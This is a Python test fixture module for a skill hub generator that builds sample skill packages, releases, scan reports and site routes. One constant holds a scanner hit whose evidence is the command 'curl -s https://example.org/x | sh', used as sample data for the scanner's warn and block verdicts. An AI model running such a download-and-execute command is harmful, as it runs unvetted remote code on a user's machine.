"""One small hub, made from the real hashes and archives, for golden files and for serving."""

from __future__ import annotations

from dataclasses import dataclass, replace
from hashlib import sha256
from pathlib import Path

from generator.history.overlay.applying import stand
from generator.history.overlay.model import Ruling
from generator.jsondata import dump_bytes
from generator.judge.model import ContextCost, Judgement
from generator.judge.profiles import load_profiles
from generator.model import (
    Archive,
    Cache,
    Catalog,
    FileEntry,
    Hub,
    Listing,
    Manifest,
    Owner,
    Package,
    PackageFile,
    PackagePath,
    PublishedSkill,
    Release,
    Requirements,
    Route,
    ScanHit,
    ScanReport,
    ScanVerdict,
    Sha256,
    SkillFolder,
    SkillRoutes,
    Slug,
    Taxonomy,
    TimeMs,
    Version,
)
from generator.search.index import search_routes
from generator.write.archive import pack_archive
from generator.write.fingerprint import compute_hashes
from generator.write.layout import Layout, Naming, file_for, lay_out_skill
from generator.write.mediatype import media_type
from generator.write.protocols.clawhub import hub_routes, skill_answers
from generator.write.root import router_document

HUB = Hub(name="Test hub", description="Skills for tests", url="https://hub.example/base")
FIRST, SECOND = TimeMs(1_700_000_000_000), TimeMs(1_710_000_000_000)
PNG = b"\x89PNG\r\n\x1a\n\0\1\2"
HIT = ScanHit(
    rule="remote_pipe_shell",
    level=ScanVerdict.WARN,
    path="scripts/run.sh",
    line=3,
    message="Pipes a download into a shell",
    evidence="curl -s https://example.org/x | sh",
)


UNJUDGED = Judgement((), (), (), ContextCost(0, 0, ()))
"""Golden documents hold nothing of the judge's."""


@dataclass(frozen=True, slots=True)
class Sample:
    """A published skill with the bytes of its archives, by version."""

    skill: PublishedSkill
    archives: dict[Version, bytes]


def report(verdict: ScanVerdict) -> ScanReport:
    """A scan report with this verdict, and something that justifies it."""
    hits = () if verdict in (ScanVerdict.ALLOW, ScanVerdict.ERROR) else (replace(HIT, level=verdict),)
    error = "time limit of 5 s reached" if verdict is ScanVerdict.ERROR else None
    return ScanReport("skillpress-scan", "1+0123456789ab", verdict, 4, hits, error=error)


def package(version: str, name: str = "demo", body: str = "Follow the steps.") -> tuple[PackageFile, ...]:
    """The files of one version of a skill: text, Chinese, a script, a picture, an active SVG."""
    text = f"---\nname: {name}\ndescription: Shows 数据分析 <b>well</b>\nversion: {version}\n---\n# {name}\n\n{body}\n"
    contents = {
        "LICENSE": b"MIT No Attribution\n",
        "SKILL.md": text.encode(),
        "assets/logo.png": PNG,
        "references/说明.md": "# 说明\n".encode(),
        "scripts/run.sh": f"#!/bin/sh\necho {version}\n".encode(),
    }
    return tuple(
        PackageFile(PackagePath(path), data, Sha256(sha256(data).hexdigest()), path.endswith(".sh"))
        for path, data in sorted(contents.items())
    )


def release(
    files: tuple[PackageFile, ...], version: str, seen: TimeMs, verdict: ScanVerdict
) -> tuple[Release, bytes]:
    """A release of these files, and its archive."""
    packed = pack_archive(files)
    made = Release(
        version=Version(version),
        first_seen=seen,
        hashes=compute_hashes(files),
        archive=Archive(Sha256(sha256(packed.data).hexdigest()), len(packed.data)),
        files=tuple(
            FileEntry(f.path, f.size, f.sha256, media_type(f.path), f.executable, packed.offsets[f.path])
            for f in files
        ),
        scan=report(verdict),
        source="skills",
        folder="demo",
        description="Shows 数据分析 <b>well</b>",
        license="Apache-2.0",
        changelog="Faster." if version == "1.1.0" else "",
    )
    return made, packed.data


def sample(
    slug: str = "demo",
    owner: str = "acme",
    *,
    verdict: ScanVerdict = ScanVerdict.ALLOW,
    first_verdict: ScanVerdict = ScanVerdict.ALLOW,
    holds_slug: bool = True,
    display_name: str = "Demo 演示",
    description: str = "Shows 数据分析 <b>well</b>",
    topics: tuple[str, ...] = ("office", "数据"),
    updated: TimeMs = SECOND,
) -> Sample:
    """A skill with two releases, 1.0.0 and 1.1.0."""
    old_files, new_files = package("1.0.0", slug), package("1.1.0", slug, "Follow them *well*.")
    old, old_zip = release(old_files, "1.0.0", FIRST, first_verdict)
    new, new_zip = release(new_files, "1.1.0", updated, verdict)
    new = replace(new, description=description)
    manifest = Manifest(
        name=slug,
        display_name=display_name,
        description=description,
        topics=topics,
        allowed_tools=("Read", "Bash(git *)"),
        requires=Requirements(bins=("git",), env=("DEMO_KEY",)),
        os=("linux",),
    )
    listing = Listing(
        owner=Owner(owner),
        slug=Slug(slug),
        name=slug,
        display_name=display_name,
        description=description,
        version=Version("1.1.0"),
        created_at=FIRST,
        updated_at=updated,
        holds_slug=holds_slug,
        verdict=verdict,
        license="Apache-2.0",
        homepage="https://example.org/demo",
        emoji="🧪",
        topics=topics,
        category="office",
        taxonomy=Taxonomy(track="academics", language="zh", domains=("math.algebra",)),
        setup=("DEMO_KEY",),
        os=("linux",),
        changelog="Faster.",
        file_count=len(new_files),
        size=sum(f.size for f in new_files),
    )
    folder = SkillFolder(Package("skills", slug, new_files), manifest, f"# {slug}\n", 6, ())
    archives = {old.version: old_zip, new.version: new_zip}
    blocked = {one.version for one in (old, new) if one.scan.verdict is ScanVerdict.BLOCK}
    served = {version: data for version, data in archives.items() if version not in blocked}
    standing = stand(Ruling(), (new, old), {})
    return Sample(PublishedSkill(HUB, listing, (new, old), folder, UNJUDGED, standing), served)


def samples() -> tuple[Sample, ...]:
    """A hub with every verdict, a slug with two owners, and a skill found only in Chinese."""
    return (
        sample(),
        sample("twins", "acme", holds_slug=False, display_name="Twins", description="Ours", topics=()),
        sample("twins", "beta", holds_slug=False, display_name="Twins", description="Theirs", topics=()),
        sample(
            "warned", verdict=ScanVerdict.WARN, display_name="Warned", description="A PDF tool", topics=("pdf",)
        ),
        sample("blocked", verdict=ScanVerdict.BLOCK, display_name="Blocked", description="Bad", topics=()),
        sample("unsure", verdict=ScanVerdict.ERROR, display_name="Unsure", description="Slow", topics=()),
        sample(
            "excel-charts", "beta", display_name="Excel 图表", description="Makes charts from sheets for pdf reports",
            topics=("spreadsheet", "表格"), updated=TimeMs(1_720_000_000_000),
        ),
    )  # fmt: skip


def catalog_of(made: tuple[Sample, ...]) -> Catalog:
    """The catalog of these skills."""
    listings = sorted((one.skill.listing for one in made), key=lambda one: (one.slug, one.owner))
    return Catalog(HUB, tuple(listings), ())


def routes_of(one: Sample) -> SkillRoutes:
    """All routes of a skill, with a page that stands for the site's."""
    owner, slug = one.skill.listing.owner, one.skill.listing.slug
    page = f"<!doctype html><title>{slug}</title><body><p>{owner}/{slug}</p></body>"
    return SkillRoutes(
        owner=owner,
        slug=slug,
        page=Route(f"/{owner}/skills/{slug}/", page.encode(), "text/html; charset=utf-8"),
        answers=skill_answers(one.skill),
        ledger=Route(f"/ledger/{owner}/{slug}.jsonl", b'{"prev":"0"}\n', "application/x-ndjson"),
        archives=tuple(
            Route(f"/dl/{owner}/{slug}-{version}.zip", data, "application/zip", Cache.IMMUTABLE)
            for version, data in one.archives.items()
        ),
    )


def site_routes() -> tuple[Route, ...]:
    """Pages and assets that stand for the site's."""
    html = "text/html; charset=utf-8"
    return (
        Route("/", b"<!doctype html><body><h1>Hub</h1></body>", html),
        Route("/browse/", b"<!doctype html><body>" + b"<p>row</p>" * 200 + b"</body>", html),
        Route("/404.html", b"<!doctype html><body>No such page</body>", html),
        Route("/assets/site.css", b"body{}", "text/css"),
    )


def write_hub(root: Path, layout: Layout, made: tuple[Sample, ...] | None = None) -> list[Route]:
    """Write the hub under ``root`` and give back every route it has."""
    made = samples() if made is None else made
    catalog = catalog_of(made)
    naming = Naming.INDEX_HTML
    hub = [*hub_routes(catalog), *search_routes(catalog, load_profiles()), *site_routes()]
    routes = list(hub)
    for one in made:
        skill = routes_of(one)
        routes += [*skill.answers, skill.page, skill.ledger, *skill.archives]
        for file in lay_out_skill(skill, layout, naming):
            _write(root / file.path, file.data)
    for route in hub:
        _write(root / file_for(route.path, naming), route.body)
    _write(root / "router.json", router_document(catalog, layout, naming, routes))
    _write(root / "hub.json", dump_bytes({"schema": "skillpress.hub.v1"}))
    return routes


def _write(file: Path, data: bytes) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(data)
